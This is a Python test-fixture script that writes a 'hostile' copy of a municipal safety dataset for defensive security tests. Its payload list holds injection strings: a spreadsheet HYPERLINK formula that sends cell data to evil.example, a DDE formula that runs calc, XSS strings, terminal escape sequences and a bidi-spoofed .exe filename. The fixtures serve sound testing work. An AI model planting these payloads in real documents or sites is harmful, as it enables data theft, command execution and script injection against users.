#!/usr/bin/python3
"""Writes the hostile copy of the bundled dataset (tests/security/hostile.json).

A document comes from someone else, so every string in it is untrusted
(docs/security.md). This copy of data/veilige-steden.json keeps its codes,
ids and references (so that every command works on it) and puts into its
free texts what a hostile or careless author could: spreadsheet formulas,
HTML and Markdown, terminal escape sequences and other control characters,
bidirectional overrides, a very long string and characters of every Unicode
plane. The programme's name, one measure id and one key get the same.

    make_hostile.py [OUT]        (default: tests/security/hostile.json)

The test security.hostile_current checks that the committed file is what
this script writes; after changing the script, run it and commit both.
"""
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
DATASET = os.path.join(ROOT, "data", "veilige-steden.json")

#: Every Unicode plane: 0 (Latin with a combining accent, CJK), 1 (emoji,
#: mathematical letters), 2 and 3 (CJK extensions), 14 (tags, a variation
#: selector) and 15, 16 (private use).
PLANES = ("cafe\u0301 \u65e5\u672c \U0001F600 \U0001D518 \U00020000 \U00030000 "
          "\U000E0041\U000E0100 \U000F0000 \U0010FFFD")

#: What is put into the texts, one after the other.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "\x1b]0;pwned\x07\x1b[2J",
    "<script>alert(1)</script>",
    "+31 6 1234 5678",
    "abc\u202egnp.exe",
    "<img src=x onerror=alert(1)>",
    "-2+3+cmd|' /C calc'!A0",
    "*bold* _it_ [link](javascript:alert(1)) ![img](x.png) `code`",
    "@SUM(1+1)",
    "# heading | pipe | cell\nnew line\n- list item\n1. ordered",
    "\tTAB =1+1",
    "\u2066isolate\u2069 \u202ax\u202c \u202by\u202c \u202dz\u202c",
    "\rCR",
    "'quote =1",
    "</td></tr></table><b>table</b><!-- comment -->",
    "\x9b31m C1 \x85 DEL \x7f BS \x08 BEL \x07",
    "> quote {: onclick=\"alert(1)\"} &amp; &lt;b&gt;",
    PLANES,
]

#: Keys whose strings are free text (not codes, ids, references or dates).
TEXT_KEYS = {"name", "official_name", "summary", "ambition", "description", "note", "reason",
             "title", "publisher"}

#: A very long string (the ambition of the first municipality).
LONG = ("Lang " + PLANES + " " + PAYLOADS[0] + " ") * 120


def hostile(dataset):
    """The hostile copy of a parsed dataset (a new object)."""
    doc = json.loads(json.dumps(dataset))
    count = [0]

    def spoil(text):
        p = PAYLOADS[count[0] % len(PAYLOADS)]
        count[0] += 1
        # every other text begins with the payload (Markdown cares about starts of lines)
        return p + " " + text if count[0] % 2 else text + " " + p

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in TEXT_KEYS and isinstance(value, str):
                    node[key] = spoil(value)
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(doc["municipalities"])
    doc["programme"]["name"] = PAYLOADS[1] + doc["programme"]["name"] + PAYLOADS[4]
    first = doc["municipalities"][0]
    first["ambition"] = LONG
    # the whole name is a formula (the first example of issue 16)
    first["measures"][0]["name"] = PAYLOADS[0]
    # an id that is not one (V006), and a key the library does not know
    first["measures"][-1]["id"] = "=1+2"
    first["x-\x1b[31mnotitie\u202e"] = "<script>alert(1)</script>"
    # addresses that must not become links
    sources = first.get("sources", [])
    if len(sources) >= 2:
        sources[0]["url"] = "javascript:alert(1)"
        sources[1]["url"] = 'https://example.nl/"onmouseover="alert(1)'
    return doc


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "hostile.json")
    with open(DATASET, encoding="utf-8") as f:
        doc = hostile(json.load(f))
    with open(out, "w", encoding="utf-8") as f:
        json.dump(doc, f, ensure_ascii=False, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
